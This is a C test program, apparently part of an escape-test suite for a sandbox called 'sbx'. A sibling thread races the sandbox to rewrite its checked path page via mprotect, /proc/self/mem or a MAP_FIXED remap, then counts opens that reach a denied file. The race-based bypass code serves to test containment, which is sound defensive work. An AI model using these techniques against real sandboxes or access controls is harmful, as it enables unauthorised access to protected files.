/* The page sbx puts a decided path in, attacked by a sibling thread while the
 * main thread opens an allowed file argv[3] times (argv[2]: the denied file).
 * The next mmap(NULL, 4096) of this process lands at an address the sibling
 * learns by mapping and unmapping a page itself; it then loops, by argv[1]:
 *   mprotect: mprotect(PROT_WRITE) that address and write the denied path;
 *   procmem:  write the denied path there through /proc/self/mem;
 *   remap:    munmap it, mmap a writable page MAP_FIXED there, write the path.
 * Any open of something other than the allowed file is the denied one. */
#include <fcntl.h>
#include <pthread.h>
#include <setjmp.h>
#include <signal.h>
#include <stdatomic.h>
#include <stdint.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <unistd.h>
#include "escape.h"

static const char *allowed = "/ns/allowed";
static const char *denied, *mode;
static atomic_int stop, ready;
static char *spot;
static long hits;
static sigjmp_buf back;

/* sbx may unmap the page between the attacker's mprotect and its write */
static void on_segv(int sig)
{
	(void)sig;
	siglongjmp(back, 1);
}

static void attack_once(int mem)
{
	if (!strcmp(mode, "mprotect")) {
		if (mprotect(spot, 4096, PROT_READ | PROT_WRITE) == 0) {
			strcpy(spot, denied);
			hits++;
		}
	} else if (!strcmp(mode, "procmem")) {
		if (pwrite(mem, denied, strlen(denied) + 1, (off_t)(uintptr_t)spot) > 0)
			hits++;
	} else if (munmap(spot, 4096) == 0) {
		char *q = mmap(spot, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0);
		if (q != MAP_FAILED) {
			strcpy(q, denied);
			munmap(q, 4096); /* the next page sbx places lands here again */
			hits++;
		}
	}
}

static void *attacker(void *a)
{
	(void)a;
	int mem = open("/proc/self/mem", O_RDWR);
	spot = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	munmap(spot, 4096);
	atomic_store(&ready, 1);
	signal(SIGSEGV, on_segv);
	sigsetjmp(back, 1);
	while (!atomic_load(&stop))
		attack_once(mem);
	if (mem >= 0)
		close(mem);
	return NULL;
}

int main(int argc, char **argv)
{
	if (argc < 4)
		return 2;
	mode = argv[1];
	denied = argv[2];
	long n = atol(argv[3]);
	int fd = open(allowed, O_WRONLY | O_CREAT, 0644);
	struct stat as;
	if (fd < 0 || stat(allowed, &as) < 0)
		return 2;
	close(fd);
	pthread_t t;
	pthread_create(&t, NULL, attacker, NULL);
	while (!atomic_load(&ready))
		;
	long ok = 0, bad = 0;
	for (long i = 0; i < n; i++) {
		int f = openat(AT_FDCWD, allowed, O_RDONLY);
		if (f < 0)
			continue;
		struct stat st;
		fstat(f, &st);
		if (st.st_ino != as.st_ino || st.st_dev != as.st_dev)
			bad++;
		else
			ok++;
		close(f);
	}
	atomic_store(&stop, 1);
	pthread_join(t, NULL);
	printf("%s: %ld of the allowed file, %ld of the denied one, %ld tries\n", mode, ok, bad, n);
	if (bad)
		escaped = 1;
	else
		printf("contained: no open of %s\n", denied);
	return finish();
}
